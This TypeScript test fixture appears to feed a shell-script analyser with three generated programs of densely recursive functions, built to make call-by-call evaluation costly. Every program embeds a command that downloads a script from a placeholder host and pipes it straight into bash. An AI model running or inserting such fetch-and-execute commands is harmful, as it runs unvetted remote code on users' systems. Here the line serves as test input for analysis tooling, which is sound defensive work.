/** Shell programs whose functions call each other so often that evaluating each call separately would be costly. */
const range = (count: number): number[] => Array.from({ length: count }, (_, at) => at);
const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";

export const COSTLY_TEXTS: Readonly<Record<string, string>> = {
  chain: [
    `f0() { ${FETCH}; }`,
    ...range(40).map((at) => `f${at + 1}() { f${at}; f${at}; }`),
    "f40\n",
  ].join("\n"),
  clique: [
    ...range(6).map(
      (at) =>
        `g${at}() { ${FETCH}; ${range(6)
          .map((to) => `g${to}`)
          .join("; ")}; }`,
    ),
    "g0\n",
  ].join("\n"),
  menu: [
    ...range(300).map((at) => `run_${at}() {\n  tool ${at}\n  run_${at >> 1} 0\n  back\n}`),
    "back() { read -r _; menu; }",
    `fetch() { ${FETCH}; run_1 0; }`,
    `menu() {\n  read -r num\n  case "$num" in\n  0) fetch ;;`,
    ...range(300).map((at) => `  ${at + 1}) run_${at} ;;`),
    "  *) menu ;;\n  esac\n}\nmenu\n",
  ].join("\n"),
};
